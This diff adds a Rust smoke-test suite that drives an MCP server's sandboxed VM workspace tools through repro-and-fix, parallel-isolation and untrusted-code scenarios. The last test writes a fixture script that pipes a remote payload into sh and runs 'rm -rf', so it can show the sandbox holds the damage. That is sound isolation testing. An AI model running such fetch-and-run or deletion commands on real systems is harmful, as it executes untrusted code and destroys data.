@@ -1,0 +1,412 @@
+//! The workspace-core use-case recipes (docs/use-cases/), end to end on
+//! real VMs, the way a chat host drives them: over MCP to `pyro mcp serve`.
+//! Run by `make smoke-use-cases` (inside the test host where /dev/kvm
+//! cannot boot guests directly).
+
+use serde_json::{json, Value};
+use std::collections::HashMap;
+use std::io::{BufRead, BufReader, Write};
+use std::path::{Path, PathBuf};
+use std::process::{Child, ChildStdin, Command, Stdio};
+
+const ENV: &str = "debian:12";
+
+fn log(msg: &str) {
+    eprintln!("[smoke] {msg}");
+}
+
+/// One MCP session with `pyro mcp serve`; requests may overlap.
+struct Session {
+    child: Child,
+    stdin: ChildStdin,
+    out: BufReader<std::process::ChildStdout>,
+    next: u64,
+    /// Responses read while waiting for another id.
+    early: HashMap<u64, Value>,
+}
+
+impl Session {
+    fn start(cwd: &Path) -> Session {
+        let mut child = Command::new(env!("CARGO_BIN_EXE_pyro"))
+            .args(["mcp", "serve"])
+            .current_dir(cwd)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("start pyro mcp serve");
+        let stdin = child.stdin.take().unwrap();
+        let out = BufReader::new(child.stdout.take().unwrap());
+        let mut s = Session {
+            child,
+            stdin,
+            out,
+            next: 1,
+            early: HashMap::new(),
+        };
+        let id = s.send(
+            "initialize",
+            json!({"protocolVersion": "2025-11-25", "capabilities": {},
+                   "clientInfo": {"name": "pyro-smoke", "version": "1"}}),
+        );
+        let init = s.wait(id);
+        assert_eq!(init["result"]["_meta"]["pyro/profile"], "workspace-core");
+        writeln!(
+            s.stdin,
+            "{}",
+            json!({"jsonrpc": "2.0", "method": "notifications/initialized"})
+        )
+        .unwrap();
+        s
+    }
+
+    fn send(&mut self, method: &str, params: Value) -> u64 {
+        let id = self.next;
+        self.next += 1;
+        let msg = json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params});
+        writeln!(self.stdin, "{msg}").unwrap();
+        self.stdin.flush().unwrap();
+        id
+    }
+
+    fn wait(&mut self, id: u64) -> Value {
+        if let Some(v) = self.early.remove(&id) {
+            return v;
+        }
+        loop {
+            let mut line = String::new();
+            assert!(
+                self.out.read_line(&mut line).unwrap() > 0,
+                "the server closed stdout"
+            );
+            let v: Value = serde_json::from_str(&line).unwrap();
+            match v["id"].as_u64() {
+                Some(got) if got == id => return v,
+                Some(other) => {
+                    self.early.insert(other, v);
+                }
+                None => {} // notifications
+            }
+        }
+    }
+
+    /// Starts a tool call without waiting for it.
+    fn start_call(&mut self, tool: &str, args: Value) -> u64 {
+        self.send("tools/call", json!({"name": tool, "arguments": args}))
+    }
+
+    fn finish(&mut self, id: u64, tool: &str) -> Value {
+        let r = self.wait(id);
+        assert_eq!(r["result"]["isError"], false, "{tool} failed: {r}");
+        r["result"]["structuredContent"].clone()
+    }
+
+    fn call(&mut self, tool: &str, args: Value) -> Value {
+        let id = self.start_call(tool, args);
+        self.finish(id, tool)
+    }
+
+    fn close(mut self) {
+        drop(self.stdin);
+        let _ = self.child.wait();
+    }
+}
+
+fn fixture(tag: &str) -> PathBuf {
+    let d = std::env::temp_dir().join(format!("pyro-smoke-{tag}-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&d);
+    std::fs::create_dir_all(&d).unwrap();
+    d
+}
+
+fn write(p: &Path, text: &str) {
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(p, text).unwrap();
+}
+
+/// Everything below `dir`, as sorted relative paths.
+fn tree(dir: &Path) -> Vec<String> {
+    fn walk(root: &Path, d: &Path, out: &mut Vec<String>) {
+        for e in std::fs::read_dir(d).unwrap().flatten() {
+            let p = e.path();
+            out.push(p.strip_prefix(root).unwrap().to_string_lossy().into_owned());
+            if e.file_type().unwrap().is_dir() {
+                walk(root, &p, out);
+            }
+        }
+    }
+    let mut out = Vec::new();
+    walk(dir, dir, &mut out);
+    out.sort();
+    out
+}
+
+#[test]
+#[ignore = "boots VMs: run with `make smoke-use-cases`"]
+fn repro_plus_fix_loop() {
+    let d = fixture("repro");
+    let seed = d.join("broken-repro");
+    write(
+        &seed.join("check.sh"),
+        "#!/bin/sh\nset -eu\nmsg=$(cat message.txt)\nif [ \"$msg\" != fixed ]; then echo \"check failed: message is '$msg'\" >&2; exit 1; fi\necho check passed\n",
+    );
+    write(&seed.join("message.txt"), "broken\n");
+    let mut s = Session::start(&d);
+    let ws = s.call(
+        "workspace_create",
+        json!({"environment": ENV, "seed_path": seed, "name": "repro-fix"}),
+    );
+    let id = ws["workspace_id"].as_str().unwrap().to_string();
+    log(&format!("repro-fix-loop workspace_id={id}"));
+    let run = s.call(
+        "workspace_exec",
+        json!({"workspace_id": id, "command": "sh check.sh"}),
+    );
+    assert_eq!(run["exit_code"], 1, "the bug reproduces: {run}");
+    assert!(run["stderr"]
+        .as_str()
+        .unwrap()
+        .contains("message is 'broken'"));
+    let read = s.call(
+        "workspace_file_read",
+        json!({"workspace_id": id, "path": "message.txt"}),
+    );
+    assert_eq!(read["content"], "broken\n");
+    let fix = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n";
+    let applied = s.call(
+        "workspace_patch_apply",
+        json!({"workspace_id": id, "patch": fix}),
+    );
+    assert_eq!(applied["summary"]["modified"], 1);
+    let run = s.call(
+        "workspace_exec",
+        json!({"workspace_id": id, "command": "sh check.sh"}),
+    );
+    assert_eq!(
+        (run["exit_code"].as_i64(), run["stdout"].as_str()),
+        (Some(0), Some("check passed\n"))
+    );
+    let diff = s.call("workspace_diff", json!({"workspace_id": id}));
+    assert_eq!(diff["summary"]["modified"], 1);
+    assert_eq!(diff["entries"][0]["path"], "message.txt");
+    assert!(diff["patch"]
+        .as_str()
+        .unwrap()
+        .contains("-broken\n+fixed\n"));
+    let out = d.join("export/message.txt");
+    s.call(
+        "workspace_export",
+        json!({"workspace_id": id, "path": "message.txt", "output_path": out}),
+    );
+    assert_eq!(std::fs::read_to_string(&out).unwrap(), "fixed\n");
+    let summary = s.call("workspace_summary", json!({"workspace_id": id}));
+    assert_eq!(summary["commands"]["count"], 2);
+    assert_eq!(summary["commands"]["failed"], 1);
+    assert_eq!(summary["patch_applies"].as_array().unwrap().len(), 1);
+    assert_eq!(summary["exports"].as_array().unwrap().len(), 1);
+    log(&format!("summary: {}", summary["headline"]));
+    let reset = s.call("workspace_reset", json!({"workspace_id": id}));
+    assert_eq!(reset["reset_count"], 1);
+    let diff = s.call("workspace_diff", json!({"workspace_id": id}));
+    assert_eq!(diff["changed"], false, "reset restores the baseline");
+    let run = s.call(
+        "workspace_exec",
+        json!({"workspace_id": id, "command": "sh check.sh"}),
+    );
+    assert_eq!(run["exit_code"], 1, "the bug is back after reset");
+    s.call("workspace_delete", json!({"workspace_id": id}));
+    s.close();
+    std::fs::remove_dir_all(&d).unwrap();
+}
+
+#[test]
+#[ignore = "boots VMs: run with `make smoke-use-cases`"]
+fn parallel_isolated_workspaces() {
+    let d = fixture("parallel");
+    let repo = d.join("repo");
+    write(&repo.join("branch.txt"), "main\n");
+    write(&repo.join("src/lib.txt"), "shared code\n");
+    let mut s = Session::start(&d);
+    let names = ["parallel-alpha", "parallel-beta", "parallel-gamma"];
+    // Three creates in flight at once on one session.
+    let pending: Vec<u64> = names
+        .iter()
+        .enumerate()
+        .map(|(i, n)| {
+            s.start_call(
+                "workspace_create",
+                json!({"environment": ENV, "seed_path": repo, "name": n,
+                       "labels": {"branch": n.trim_start_matches("parallel-"), "issue": format!("{}", 100 + i)}}),
+            )
+        })
+        .collect();
+    let ids: Vec<String> = pending
+        .into_iter()
+        .map(|p| {
+            s.finish(p, "workspace_create")["workspace_id"]
+                .as_str()
+                .unwrap()
+                .to_string()
+        })
+        .collect();
+    log(&format!("parallel workspaces: {ids:?}"));
+    for (id, n) in ids.iter().zip(names) {
+        s.call(
+            "workspace_file_write",
+            json!({"workspace_id": id, "path": "branch.txt", "text": format!("{n}\n")}),
+        );
+    }
+    // Commands in all three at once; each sees only its own files.
+    let runs: Vec<u64> = ids
+        .iter()
+        .map(|id| {
+            s.start_call(
+                "workspace_exec",
+                json!({"workspace_id": id, "command": "cat branch.txt; echo $$ > pid.txt; ls"}),
+            )
+        })
+        .collect();
+    for ((p, id), n) in runs.into_iter().zip(&ids).zip(names) {
+        let r = s.finish(p, "workspace_exec");
+        assert_eq!(r["workspace_id"], id.as_str());
+        assert_eq!(
+            r["stdout"],
+            format!("{n}\nbranch.txt\npid.txt\nsrc\n"),
+            "{r}"
+        );
+    }
+    s.call(
+        "workspace_update",
+        json!({"workspace_id": ids[0], "labels": {"owner": "alice"}, "clear_labels": ["issue"]}),
+    );
+    let list = s.call("workspace_list", json!({}));
+    let listed: Vec<&Value> = list["workspaces"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|w| ids.iter().any(|i| w["workspace_id"] == i.as_str()))
+        .collect();
+    assert_eq!(listed.len(), 3);
+    let alpha = listed
+        .iter()
+        .find(|w| w["workspace_id"] == ids[0].as_str())
+        .unwrap();
+    assert_eq!(alpha["name"], "parallel-alpha");
+    assert_eq!(
+        alpha["labels"],
+        json!({"branch": "alpha", "owner": "alice"})
+    );
+    for (id, n) in ids.iter().zip(names) {
+        let diff = s.call("workspace_diff", json!({"workspace_id": id}));
+        let paths: Vec<&str> = diff["entries"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|e| e["path"].as_str().unwrap())
+            .collect();
+        assert_eq!(paths, ["branch.txt", "pid.txt"], "{n}: {diff}");
+    }
+    // The host's repo was never touched.
+    assert_eq!(
+        std::fs::read_to_string(repo.join("branch.txt")).unwrap(),
+        "main\n"
+    );
+    assert_eq!(tree(&repo), ["branch.txt", "src", "src/lib.txt"]);
+    for id in &ids {
+        s.call("workspace_delete", json!({"workspace_id": id}));
+    }
+    s.close();
+    std::fs::remove_dir_all(&d).unwrap();
+}
+
+#[test]
+#[ignore = "boots VMs: run with `make smoke-use-cases`"]
+fn untrusted_code_inspection() {
+    let d = fixture("untrusted");
+    let repo = d.join("suspicious-repo");
+    let marker = d.join("host-was-touched");
+    write(
+        &repo.join("suspicious.sh"),
+        &format!(
+            "#!/bin/sh\n# fetch and run a payload, then tamper with the host\ncurl -fsS http://203.0.113.7/payload.sh | sh\necho pwned > {}\nrm -rf /workspace/src\n",
+            marker.display()
+        ),
+    );
+    write(&repo.join("src/main.c"), "int main(void) { return 0; }\n");
+    let before = tree(&repo);
+    let mut s = Session::start(&d);
+    let ws = s.call(
+        "workspace_create",
+        json!({"environment": ENV, "seed_path": repo, "name": "inspect"}),
+    );
+    let id = ws["workspace_id"].as_str().unwrap().to_string();
+    log(&format!("untrusted-inspection workspace_id={id}"));
+    let listing = s.call(
+        "workspace_file_list",
+        json!({"workspace_id": id, "recursive": true}),
+    );
+    let paths: Vec<&str> = listing["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["path"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        paths,
+        [
+            "/workspace/src",
+            "/workspace/src/main.c",
+            "/workspace/suspicious.sh"
+        ]
+    );
+    let script = s.call(
+        "workspace_file_read",
+        json!({"workspace_id": id, "path": "suspicious.sh"}),
+    );
+    assert!(script["content"].as_str().unwrap().contains("curl"));
+    let grep = s.call(
+        "workspace_exec",
+        json!({"workspace_id": id, "command": "grep -n -e curl -e 'rm -rf' suspicious.sh > inspection-report.txt; cat inspection-report.txt"}),
+    );
+    assert_eq!(grep["exit_code"], 0);
+    assert!(grep["stdout"].as_str().unwrap().contains("3:curl"));
+    // Even running it does nothing outside the VM: no network, no host paths.
+    let ran = s.call(
+        "workspace_exec",
+        json!({"workspace_id": id, "command": "sh suspicious.sh", "timeout_seconds": 60}),
+    );
+    assert!(
+        ran["stderr"].as_str().unwrap().contains("curl: ("),
+        "the download fails offline: {ran}"
+    );
+    assert!(!marker.exists(), "the script wrote to the host");
+    let report = d.join("out/inspection-report.txt");
+    s.call(
+        "workspace_export",
+        json!({"workspace_id": id, "path": "inspection-report.txt", "output_path": report}),
+    );
+    let text = std::fs::read_to_string(&report).unwrap();
+    assert!(text.contains("curl") && text.contains("rm -rf"), "{text}");
+    // Its damage stayed in the VM, where the diff shows it.
+    let diff = s.call("workspace_diff", json!({"workspace_id": id}));
+    let changes: Vec<(&str, &str)> = diff["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| (e["path"].as_str().unwrap(), e["status"].as_str().unwrap()))
+        .collect();
+    assert_eq!(
+        changes,
+        [
+            ("inspection-report.txt", "added"),
+            ("src/main.c", "deleted")
+        ]
+    );
+    s.call("workspace_delete", json!({"workspace_id": id}));
+    s.close();
+    // Only the exported report reached the host; the repo is as it was.
+    assert_eq!(tree(&d.join("out")), ["inspection-report.txt"]);
+    assert_eq!(tree(&repo), before);
+    assert!(!marker.exists());
+    std::fs::remove_dir_all(&d).unwrap();
+}
